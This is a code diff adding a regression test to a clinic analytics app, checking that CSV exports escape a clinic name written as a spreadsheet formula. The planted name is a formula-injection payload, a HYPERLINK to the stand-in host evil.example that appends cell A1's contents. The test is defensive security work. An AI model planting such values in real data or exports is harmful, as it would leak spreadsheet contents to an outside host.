@@ -104,3 +104,14 @@ def test_the_home_page_links_the_levels_the_user_analyses(client):
     assert f"/analytics/agencies/{agency.slug}/" in html
     assert f"/analytics/organizations/{corporation.slug}/" in html
     assert f"/analytics/organizations/{stranger.organization.slug}/" not in html
+
+
+def test_a_clinic_name_that_looks_like_a_formula_is_not_one_in_the_csv(client):
+    corporation = gen_organization(gen_agency(name="代理店"), name="医療法人")
+    planted = gen_clinic(corporation, name='=HYPERLINK("http://evil.example/?"&A1,"クリック")')
+    add_friends(planted.id, {"followed_at": japan_time(2)})
+    jobs.catch_up(7)
+    login(client, gen_user("admin", organization=corporation))
+    for name in ("friends", "block_rate", "bookings"):
+        header, *rows = csv_rows(client.get(f"/analytics/organizations/{corporation.slug}/{name}.csv").data)
+        assert rows[0][0] == "'" + planted.name, name  # Excel shows the name; it does not evaluate it
